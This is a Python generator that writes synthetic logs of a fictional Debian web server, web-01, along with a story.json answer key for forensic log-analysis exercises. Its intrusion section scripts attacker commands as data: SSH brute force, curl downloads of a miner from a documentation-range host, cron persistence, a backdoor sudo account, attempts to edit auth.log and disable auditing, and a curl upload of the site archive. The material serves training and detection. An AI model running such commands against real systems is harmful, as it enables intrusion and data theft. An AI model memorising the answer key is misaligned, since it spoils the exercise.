#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright The Linux Host Explorer Authors
#
# Tells the story of samples/README.md and writes it down as the logs of one host, with story.json beside them.
#
#     generate.py             writes web-01/ and story.json next to itself
#     generate.py --check     compares what it would write with what is there
#
# No clock, no outside randomness: the same bytes every time.
import json
import sys
from collections import Counter
from datetime import datetime, timedelta
from pathlib import Path

sys.dont_write_bytecode = True
from host import CET, ROOT, Account, Dice, Host  # noqa: E402
from rotate import rotate_daily, rotate_once, same_content  # noqa: E402

START = datetime(2026, 3, 10, tzinfo=CET)  # a Tuesday
END = datetime(2026, 3, 18, 18, 5, tzinfo=CET)  # when the evidence was collected, on the ninth day
DAYS = 9


def day(n, hour=0, minute=0, second=0):
    return START + timedelta(days=n - 1, hours=hour, minutes=minute, seconds=second)


def fingerprint(dice):
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "SHA256:" + "".join(dice.pick(letters) for _ in range(43))


keys = Dice(1)
ANNA = Account("anna", 1000, key=fingerprint(keys))
CHLOE = Account("chloe", 1001, key=fingerprint(keys))
DAAN = Account("daan", 1002, key=fingerprint(keys))
DEPLOY = Account("deploy", 1003)
BOT = Account("deploy-bot", 1004, key=fingerprint(keys))
BACKUP = Account("backup-svc", 1005, key=fingerprint(keys))
ACCOUNTS = [ROOT, ANNA, CHLOE, DAAN, DEPLOY, BOT, BACKUP]

# Picked at random from the blocks of large providers; they mean nobody.
HOMES = {"anna": "91.14.203.77", "chloe": "90.62.118.23", "daan": "77.163.40.118", "deploy-bot": "78.94.12.211"}  # DE FR NL DE
ANNA_TRAVELS = "80.187.96.54"  # DE, a telephone
INTRUDER = "177.34.91.206"  # BR
SPRAYER = "36.84.152.67"  # ID
DOWNLOAD = "203.0.113.66"  # reserved for documentation: no country
NOISE_BLOCKS = ["218.92", "61.177", "222.186", "112.85", "73.162", "98.206", "117.204", "113.172", "121.147", "95.27", "5.235",
                "88.247", "189.203", "105.242", "126.19", "86.134", "79.21", "83.9", "46.211", "171.98", "181.44", "41.42"]

ADMIN_COMMANDS = ["/usr/bin/systemctl status nginx", "/usr/bin/systemctl reload nginx", "/usr/bin/apt update",
                  "/usr/bin/journalctl -u nginx -n 50", "/usr/bin/tail -n 100 /var/log/nginx/error.log", "/usr/sbin/nginx -t"]
NOISE_NAMES = ["admin", "test", "user", "oracle", "postgres", "ubuntu", "git", "ftpuser", "guest", "mysql", "hadoop", "pi", "es",
               "steam", "nagios", "jenkins", "www", "dev", "odoo", "vagrant"]
SPRAY_NAMES = ["admin", "administrator", "alex", "andrea", "andreas", "anna", "backup", "bob", "carlos", "chloe", "chris", "christian",
               "claudia", "daan", "daniel", "david", "deploy", "dev", "elena", "eric", "eva", "felix", "frank", "git", "guest",
               "hans", "info", "jan", "jens", "joe", "john", "julia", "kevin", "laura", "lisa", "lukas", "maria", "mark", "martin",
               "max", "michael", "mike", "monitor", "nagios", "nicole", "office", "oliver", "operator", "paul", "peter", "postgres",
               "robert", "root", "sandra", "sarah", "stefan", "support", "test", "thomas", "tom", "ubuntu", "user", "web",
               "webmaster"]
KNOWN = {a.name for a in ACCOUNTS} | {"www-data", "backup"}


class Truth:
    """What a finder should find, counted as it is written."""

    def __init__(self):
        self.failures_by_user, self.failures_by_address = Counter(), Counter()
        self.successes, self.first_last = [], {}
        self.probes, self.privileges = Counter(), Counter()
        self.sudo_commands, self.crons = [], {}

    def failure(self, user, address, when):
        self.failures_by_user[user] += 1
        self.failures_by_address[address] += 1
        first, _ = self.first_last.get(address, (when, when))
        self.first_last[address] = (first, when)

    def success(self, user, address, method, when):
        self.successes.append((when, user, address, method))

    def probe(self, address):
        self.probes[address] += 1

    def privilege(self, program, user, outcome):
        self.privileges[(program, user, outcome)] += 1

    def sudo(self, when, user, tty, cwd, command):
        self.sudo_commands.append({"ts": utc(when), "user_name": user, "tty": tty, "cwd": cwd, "command": command})

    def cron(self, command, when):
        n, first, _ = self.crons.get(command, (0, when, when))
        self.crons[command] = (n + 1, first, when)


def utc(when):
    """As the tables show it: UTC, to the second, because the year-less stamps of auth.log hold no more."""
    return f"{when - timedelta(hours=1):%Y-%m-%d %H:%M:%S}"


# ---- Ordinary days ----


def admin_visit(h, account, address, commands, truth):
    session = yield from h.log_on(account, address, "publickey", truth)
    yield h.dice.seconds(20, 90)
    for command in commands:
        yield from h.run_sudo(session, command, truth, h.dice.seconds(0.5, 4))
        yield h.dice.seconds(15, 200)
    yield from h.log_off(session)


def bot_visit(h, truth):
    session = yield from h.log_on(BOT, HOMES["deploy-bot"], "publickey", truth)
    yield from h.execute(session, ["rsync", "--server", "-logDtpre.iLsfxCIvu", ".", "/srv/www/"], "/usr/bin/rsync")
    yield h.dice.seconds(3, 9)
    yield from h.run_sudo(session, "/usr/bin/systemctl reload nginx", truth)
    yield from h.log_off(session)


def su_to_root(h, session, truth, ok):
    user, pid = session.account, h.pid()
    if not ok:
        h.auth(f"su[{pid}]", f"pam_unix(su-l:auth): authentication failure; logname={user.name} uid={user.uid} euid=0 "
                             f"tty=/dev/pts/0 ruser={user.name} rhost=  user=root")
        h.pam_record("USER_AUTH", "authentication", "root", "/usr/bin/su", pid, session, terminal="/dev/pts/0", ok=False,
                     uid=user.uid)
        yield 1.9
        h.auth(f"su[{pid}]", f"FAILED SU (to root) {user.name} on pts/0")
    else:
        h.pam_record("USER_AUTH", "authentication", "root", "/usr/bin/su", pid, session, terminal="/dev/pts/0", uid=user.uid)
        h.auth(f"su[{pid}]", f"(to root) {user.name} on pts/0")
        h.auth(f"su[{pid}]", f"pam_unix(su-l:session): session opened for user root(uid=0) by {user.name}(uid={user.uid})")
        yield 95
        h.auth(f"su[{pid}]", "pam_unix(su-l:session): session closed for user root")
    truth.privilege("su", user.name, "success" if ok else "failure")


def forgetful_visit(h, account, truth, steps):
    """An admin who mistypes a password on the host: must not look like an attack."""
    session = yield from h.log_on(account, HOMES[account.name], "publickey", truth)
    yield 30
    for step in steps:
        yield from step(h, session)
        yield h.dice.seconds(3, 20)
    yield from h.log_off(session)


def anna_on_the_train(h, truth):
    """One wrong password from a new address, then the key: a failure before a success, and harmless."""
    yield from h.knock("anna", ANNA_TRAVELS, True, 1, truth)
    yield 31
    yield from admin_visit(h, ANNA, ANNA_TRAVELS, ADMIN_COMMANDS[:1], truth)


def plan_ordinary_days(h, truth):
    d = h.dice
    for n in range(1, DAYS + 1):
        weekend = day(n).weekday() >= 5
        visits = [(ANNA, 8), (CHLOE, 10), (DAAN, 14)] if not weekend else [(CHLOE, 11)] if n == 5 else []
        for account, hour in visits:
            commands = [d.pick(ADMIN_COMMANDS) for _ in range(d.between(1, 2))]
            when = day(n, hour, d.between(0, 59), d.between(0, 59))
            h.at(when, admin_visit(h, account, HOMES[account.name], commands, truth))
        for hour in () if weekend else (12, 16):
            h.at(day(n, hour, d.between(0, 59), d.between(0, 59)), bot_visit(h, truth))
        plan_timers(h, n, truth)
        plan_web_visitors(h, n)
    h.at(day(2, 15, 40, 11), forgetful_visit(h, DAAN, truth, [lambda h, s: su_to_root(h, s, truth, False),
                                                             lambda h, s: su_to_root(h, s, truth, True)]))
    h.at(day(3, 9, 12, 44), forgetful_visit(h, CHLOE, truth, [
        lambda h, s: h.fail_sudo(s, truth), lambda h, s: h.run_sudo(s, "/usr/bin/apt upgrade", truth, 41)]))
    h.at(day(4, 17, 48, 3), anna_on_the_train(h, truth))


def plan_timers(h, n, truth):
    d = h.dice
    for hour in range(24):
        h.at(day(n, hour, 17, 1), h.cron_job("   cd / && run-parts --report /etc/cron.hourly", truth))
    h.at(day(n, 6, 25, 1), h.cron_job("test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", truth, 2.2))
    for unit, what, hour, seconds, own in (
        ("logrotate.service", "Rotate log files", 0, 0.8, ()),
        ("dpkg-db-backup.service", "Daily dpkg database backup service", 0, 0.3, ()),
        ("man-db.service", "Daily man-db regeneration", d.between(1, 5), 1.5, ()),
        ("apt-daily.service", "Daily apt download activities", d.between(5, 7), 3.0, ()),
        ("apt-daily-upgrade.service", "Daily apt upgrade and clean activities", 6, 2.5, ()),
        ("certbot.service", "Certbot", d.between(2, 11), 2.0, (("certbot", "Certificate not yet due for renewal"),)),
        ("certbot.service", "Certbot", d.between(13, 23), 2.0, (("certbot", "No renewals were attempted."),)),
        ("phpsessionclean.service", "Clean php session files", d.between(8, 20), 0.2, ()),
        ("systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories", 3, 0.1, ()),
        ("e2scrub_all.service", "Online ext4 Metadata Check for All Filesystems", 3, 0.2, ()),
    ):
        minute, second = (0, 0) if unit == "logrotate.service" else (d.between(1, 58), d.between(0, 59))
        h.at(day(n, hour, minute, second), h.timer(unit, what, seconds, own))


# ---- The web server ----

PAGES = [("/", 6120), ("/about", 4211), ("/products", 9873), ("/products/bolts", 7714), ("/products/nuts", 6930), ("/contact", 3120),
         ("/static/site.css", 14022), ("/static/site.js", 22790), ("/static/logo.svg", 1880), ("/favicon.ico", 1150)]
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:136.0) Gecko/20100101 Firefox/136.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 "
            "Mobile/15E148 Safari/604.1"]
SCANS = ["/wp-login.php", "/xmlrpc.php", "/phpmyadmin/index.php", "/.env", "/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin",
         "/actuator/health", "/solr/admin/info/system", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/auth/logon.aspx"]


def noise_address(d):
    return f"{d.pick(NOISE_BLOCKS)}.{d.between(1, 254)}.{d.between(1, 254)}"


def browse(h):
    d = h.dice
    address, agent, referer = noise_address(d), d.pick(BROWSERS), "-"
    for _ in range(d.between(2, 6)):
        path, size = d.pick(PAGES)
        status = 304 if d.below(7) == 0 else 200
        h.access(address, f"GET {path} HTTP/1.1", status, 0 if status == 304 else size, agent, referer)
        referer = "https://web-01.example/"
        yield d.seconds(0.2, 25)


def scan(h):
    d = h.dice
    address = noise_address(d)
    for _ in range(d.between(2, 5)):
        h.access(address, f"GET {d.pick(SCANS)} HTTP/1.1", 404, 153, d.pick(["Mozilla/5.0", "python-requests/2.32.3", "zgrab/0.x", "-"]))
        yield d.seconds(0.1, 2)


def plan_web_visitors(h, n):
    d = h.dice
    for _ in range(24):
        h.at(day(n, d.between(6, 23), d.between(0, 59), d.between(0, 59)), browse(h))
    for _ in range(8):
        h.at(day(n, d.between(0, 23), d.between(0, 59), d.between(0, 59)), scan(h))


# ---- Strangers ----


def ufw_block(h, address):
    d = h.dice
    uptime = (h.now - START).total_seconds() + 1862204.118
    h.syslog("kernel", f"[{uptime:.6f}] [UFW BLOCK] IN=ens3 OUT= MAC=52:54:00:1f:6a:02:52:54:00:9c:11:e0:08:00 SRC={address} "
                       f"DST=192.0.2.10 LEN=40 TOS=0x00 PREC=0x00 TTL={d.between(230, 249)} ID={d.between(1, 65535)} PROTO=TCP "
                       f"SPT={d.between(32768, 60999)} DPT={d.pick([23, 445, 3389, 2323, 8080, 5900, 6379])} WINDOW=1024 RES=0x00 "
                       "SYN URGP=0")
    yield 0


def plan_noise(h, truth):
    d = h.dice
    for n in range(1, DAYS + 1):
        for _ in range(d.between(17, 24)):
            user = "root" if d.below(5) < 2 else d.pick(NOISE_NAMES)
            failures = 3 if d.below(8) == 0 else 1
            when = day(n, d.between(0, 23), d.between(0, 59), d.between(0, 59))
            h.at(when, h.knock(user, noise_address(d), user in KNOWN, failures, truth))
        for _ in range(d.between(5, 8)):
            h.at(day(n, d.between(0, 23), d.between(0, 59), d.between(0, 59)), h.probe(noise_address(d), truth))
        for _ in range(12):
            h.at(day(n, d.between(0, 23), d.between(0, 59), d.between(0, 59)), ufw_block(h, noise_address(d)))


def spray(h, truth):
    for name in SPRAY_NAMES:
        yield from h.knock(name, SPRAYER, name in KNOWN, 1, truth)
        yield h.dice.seconds(20, 30)


# ---- The intrusion ----

STAGE = "/var/tmp/.cache-x"
JOB = f"{STAGE}/kw -q >/dev/null 2>&1"
BRUTE_BEGIN, BRUTE_CONNECTIONS = day(6, 2, 11, 4), 68
PROBES = [("/robots.txt", 404, 153), ("/.env", 404, 153), ("/backup.zip", 404, 153), ("/admin/", 404, 153), ("/.git/HEAD", 200, 23),
          ("/.git/config", 200, 281), ("/.git/logs/HEAD", 200, 1740), ("/deploy.php", 404, 153), ("/server-status", 403, 153)]


def probe_web(h):
    """The evening before: /.git/config tells the name of an account, deploy."""
    for path, status, size in PROBES:
        h.access(INTRUDER, f"GET {path} HTTP/1.1", status, size, "curl/8.5.0")
        yield h.dice.seconds(2, 40)


def force_deploy(h, truth):
    """68 connections of three wrong passwords, two more wrong ones, and then the right one."""
    for _ in range(BRUTE_CONNECTIONS):
        yield from h.knock("deploy", INTRUDER, True, 3, truth)
        yield h.dice.seconds(9, 16)
    pid, port = h.pid(), 40122
    for i in range(2):
        yield from h.reject_password(pid, "deploy", INTRUDER, port, True, first=i == 0)
        truth.failure("deploy", INTRUDER, h.now)
        yield 9.4
    truth.story["brute_force"]["success"] = utc(h.now)
    session = yield from h.log_on(DEPLOY, INTRUDER, "password", truth, pid, port)
    truth.story["intruder_session"].update(audit_ses=session.ses, sshd_pid=pid, port=port, start=utc(h.now))
    yield from intrude(h, session, truth)
    yield from h.log_off(session)
    truth.story["intruder_session"]["end"] = utc(h.now)


def intrude(h, session, truth):
    yield 41
    for argv in (["id"], ["uname", "-a"], ["cat", "/etc/passwd"]):
        yield from h.execute(session, argv, "/usr/bin/" + argv[0])
        yield h.dice.seconds(9, 40)
    yield from h.fail_sudo(session, truth)
    yield from h.sudo(session, "list", truth)
    yield 27
    root = yield from h.sudo(session, "/bin/bash", truth)
    root.cwd = "/root"
    yield 76
    yield from install_miner(h, root)
    yield from install_cron(h, root)
    yield from add_account(h, root)
    yield from tamper(h, root, truth)
    yield 64
    h.close_sudo(root)
    yield 2


def install_miner(h, root):
    script = f"{STAGE}/u.sh"
    yield from h.execute(root, ["mkdir", "-p", STAGE], "/usr/bin/mkdir")
    yield from h.execute(root, ["curl", "-fsSL", f"http://{DOWNLOAD}/u.sh", "-o", script], "/usr/bin/curl")
    yield 2.5
    yield from h.execute(root, ["chmod", "+x", script], "/usr/bin/chmod")
    shell = yield from h.execute(root, ["bash", script], "/usr/bin/bash")
    for argv in (["curl", "-fsSL", f"http://{DOWNLOAD}/kw", "-o", f"{STAGE}/kw"], ["chmod", "755", f"{STAGE}/kw"],
                 ["sha256sum", f"{STAGE}/kw"]):
        yield from h.execute(root, argv, "/usr/bin/" + argv[0], ppid=shell)
        yield 1.7
    yield from h.execute(root, [f"{STAGE}/kw", "-q"], f"{STAGE}/kw", ppid=shell)
    yield 212


def install_cron(h, root):
    pid = yield from h.execute(root, ["crontab", "-l"], "/usr/bin/crontab")
    h.syslog(f"crontab[{pid}]", "(root) LIST (root)")
    yield 8
    argv = ["crontab", f"{STAGE}/c"]
    pid = yield from h.execute(root, argv, "/usr/bin/crontab")
    h.touch_file(root, argv, "/usr/bin/crontab", pid, 82, "/var/spool/cron/crontabs/root", "cron", exit=0)
    h.syslog(f"crontab[{pid}]", "(root) REPLACE (root)")
    yield 9
    argv = ["cp", f"{STAGE}/d", "/etc/cron.d/sysstat-cache"]
    pid = yield from h.execute(root, argv, "/usr/bin/cp")
    h.touch_file(root, argv, "/usr/bin/cp", pid, 257, "/etc/cron.d/sysstat-cache", "cron")
    yield 61.2 - h.now.second - h.now.microsecond / 1e6
    h.syslog(f"cron[{h.cron_pid}]", "(*system*sysstat-cache) RELOAD (/etc/cron.d/sysstat-cache)")
    h.syslog(f"cron[{h.cron_pid}]", "(root) RELOAD (crontabs/root)")
    when = h.now.replace(minute=h.now.minute // 10 * 10, second=1, microsecond=0) + timedelta(minutes=10)
    while when < END:
        h.at(when, h.cron_job(JOB, h.truth))
        when += timedelta(minutes=10)
    yield 187


def add_account(h, root):
    name = BACKUP.name
    tool = 'exe="/usr/sbin/{}" hostname=web-01 addr=? terminal=pts/0 res=success'
    pid = yield from h.execute(root, ["useradd", "-m", "-s", "/bin/bash", name], "/usr/sbin/useradd")
    h.auth(f"useradd[{pid}]", f"new group: name={name}, GID=1005")
    h.user_record("ADD_GROUP", pid, root, f'op=add-group acct="{name}" ' + tool.format("useradd"))
    h.auth(f"useradd[{pid}]", f"new user: name={name}, UID=1005, GID=1005, home=/home/{name}, shell=/bin/bash, from=/dev/pts/0")
    h.user_record("ADD_USER", pid, root, f'op=add-user acct="{name}" ' + tool.format("useradd"))
    h.truth.story["account"].update(added=utc(h.now))
    yield 5
    pid = yield from h.execute(root, ["chpasswd"], "/usr/sbin/chpasswd")
    h.auth(f"chpasswd[{pid}]", f"pam_unix(chpasswd:chauthtok): password changed for {name}")
    h.pam_record("USER_CHAUTHTOK", "chauthtok", name, "/usr/sbin/chpasswd", pid, root, terminal="pts/0", grantors="pam_unix")
    yield 4
    pid = yield from h.execute(root, ["usermod", "-aG", "sudo", name], "/usr/sbin/usermod")
    h.auth(f"usermod[{pid}]", f"add '{name}' to group 'sudo'")
    h.auth(f"usermod[{pid}]", f"add '{name}' to shadow group 'sudo'")
    h.user_record("USER_MGMT", pid, root, f'op=add-user-to-group grp="sudo" acct="{name}" ' + tool.format("usermod"))
    h.truth.story["account"].update(joined_sudo=utc(h.now))
    yield 3
    argv = ["tee", "-a", f"/home/{name}/.ssh/authorized_keys"]
    yield from h.execute(root, ["mkdir", "-p", f"/home/{name}/.ssh"], "/usr/bin/mkdir")
    yield from h.execute(root, argv, "/usr/bin/tee")
    yield 301


def tamper(h, root, truth):
    """auth.log is append-only and the audit rules are locked: both attempts fail, and are on record."""
    argv = ["sed", "-i", f"/{INTRUDER}/d", "/var/log/auth.log"]
    pid = yield from h.execute(root, argv, "/usr/bin/sed")
    h.touch_file(root, argv, "/usr/bin/sed", pid, 82, "/var/log/auth.log", "logs", "DELETE", exit=-1)
    truth.story["tampering"].append({"ts": utc(h.now), "command": " ".join(argv), "result": "refused"})
    yield 7
    pid = yield from h.execute(root, ["auditctl", "-e", "0"], "/usr/sbin/auditctl")
    h.audit(("CONFIG_CHANGE", f"op=set audit_enabled=0 old=2 auid={DEPLOY.uid} ses={root.ses} subj=unconfined res=0",
             'AUID="deploy"'))
    truth.story["tampering"].append({"ts": utc(h.now), "command": "auditctl -e 0", "result": "refused"})
    yield 9


def come_back(h, commands, truth):
    session = yield from h.log_on(BACKUP, INTRUDER, "publickey", truth)
    truth.story["account"]["logons"].append({"ts": utc(h.now), "audit_ses": session.ses})
    yield 9
    for command in commands:
        yield from h.run_sudo(session, command, truth, 3)
        yield h.dice.seconds(10, 40)
    yield from h.log_off(session)


def plan_intrusion(h, truth):
    truth.story = {"brute_force": {}, "intruder_session": {"user_name": "deploy", "source_ip": INTRUDER}, "tampering": [],
                   "account": {"user_name": BACKUP.name, "uid": 1005, "group": "sudo", "logons": []}}
    h.truth = truth
    h.at(day(4, 3, 20, 15), spray(h, truth))
    h.at(day(5, 21, 36, 12), probe_web(h))
    h.at(BRUTE_BEGIN, force_deploy(h, truth))
    h.at(day(7, 4, 12, 37), come_back(h, [f"{STAGE}/kw --status"], truth))
    h.at(day(8, 3, 47, 20), come_back(h, ["/usr/bin/cat /etc/shadow", f"/usr/bin/tar czf {STAGE}/w.tgz /srv/www"], truth))
    h.at(day(9, 4, 31, 58), come_back(h, [f"/usr/bin/curl -fsS -T {STAGE}/w.tgz http://{DOWNLOAD}/up"], truth))


# ---- Writing ----

ETC = {
    "timezone": "Europe/Berlin\n",
    "hostname": "web-01\n",
    "os-release": 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n'
                  'VERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\nHOME_URL="https://www.debian.org/"\n',
    "passwd": "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
              "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nbackup:x:34:34:backup:/var/backups:/usr/sbin/nologin\n"
              + "".join(f"{a.name}:x:{a.uid}:{a.gid}::{a.home}:/bin/bash\n" for a in ACCOUNTS[1:]),
    "group": "root:x:0:\nadm:x:4:anna,chloe,daan\nsudo:x:27:anna,chloe,daan,deploy,deploy-bot,backup-svc\nwww-data:x:33:\n"
             + "".join(f"{a.name}:x:{a.gid}:\n" for a in ACCOUNTS[1:]),
}


def story_json(h, truth):
    by = Counter((user, address, method) for _, user, address, method in truth.successes)
    n, first, last = truth.crons[JOB]
    brute = truth.first_last[INTRUDER]
    story = truth.story
    story["brute_force"].update(source_ip=INTRUDER, country_code="BR", user_name="deploy",
                                failures=truth.failures_by_address[INTRUDER], first=utc(brute[0]), last=utc(brute[1]))
    sprayed = truth.first_last[SPRAYER]
    return {
        "host": "web-01", "zone": "Europe/Berlin", "year": 2026,
        "lines": {name: len(lines) for name, lines in h.lines.items()},
        "first": {name: utc(lines[0][0]) for name, lines in h.lines.items()},
        "last": {name: utc(lines[-1][0]) for name, lines in h.lines.items()},
        "ssh": {
            "failures": sum(truth.failures_by_user.values()),
            "successes": len(truth.successes),
            "probes": sum(truth.probes.values()),
            "failing_addresses": len(truth.failures_by_address),
            "failures_by_user": dict(truth.failures_by_user.most_common()),
            "failures_by_address": {a: c for a, c in truth.failures_by_address.most_common() if c > 3},
            "successes_by": [{"user_name": u, "source_ip": a, "method": m, "count": c} for (u, a, m), c in sorted(by.items())],
        },
        "privilege": [{"program": p, "user_name": u, "outcome": o, "count": c} for (p, u, o), c in sorted(truth.privileges.items())],
        "spray": {"source_ip": SPRAYER, "country_code": "ID", "failures": truth.failures_by_address[SPRAYER],
                  "names": len(SPRAY_NAMES), "successes": 0, "first": utc(sprayed[0]), "last": utc(sprayed[1])},
        **story,
        "download": {"source_ip": DOWNLOAD, "urls": [f"http://{DOWNLOAD}/u.sh", f"http://{DOWNLOAD}/kw"]},
        "cron": {"file": "/etc/cron.d/sysstat-cache", "user_name": "root", "command": JOB, "runs": n, "first": utc(first),
                 "last": utc(last), "every_minutes": 10},
        "web_probing": {"source_ip": INTRUDER, "requests": len(PROBES), "found": ["/.git/HEAD", "/.git/config", "/.git/logs/HEAD"]},
        "sudo_commands": {"count": len(truth.sudo_commands),
                          "of_the_intruder": [c for c in truth.sudo_commands if c["user_name"] in ("deploy", "backup-svc")]},
    }


def generate():
    h, truth = Host("web-01", 20260310, START, END), Truth()
    h.names.update({a.uid: a.name for a in ACCOUNTS})
    plan_ordinary_days(h, truth)
    plan_noise(h, truth)
    plan_intrusion(h, truth)
    h.run()
    files = {f"web-01/etc/{name}": text.encode() for name, text in ETC.items()}
    midnights = [day(n) for n in range(1, DAYS + 2)]
    for base, key in (("auth.log", "auth"), ("syslog", "syslog"), ("nginx/access.log", "access")):
        files.update(rotate_daily(f"web-01/var/log/{base}", h.lines[key], midnights))
    files.update(rotate_once("web-01/var/log/audit/audit.log", h.lines["audit"], day(7)))
    files["story.json"] = (json.dumps(story_json(h, truth), indent=2) + "\n").encode()
    return files


def main():
    home = Path(__file__).resolve().parent
    files = generate()
    if sys.argv[1:] == ["--check"]:
        there = {str(p.relative_to(home)) for p in (home / "web-01").rglob("*") if p.is_file()} | {"story.json"}
        bad = sorted(there ^ files.keys()) + [n for n in sorted(there & files.keys())
                                              if not same_content(n, files[n], (home / n).read_bytes())]
        for name in bad:
            print(f"differs from what generate.py writes: {name}")
        return 1 if bad else 0
    for name, data in files.items():
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return 0


if __name__ == "__main__":
    sys.exit(main())
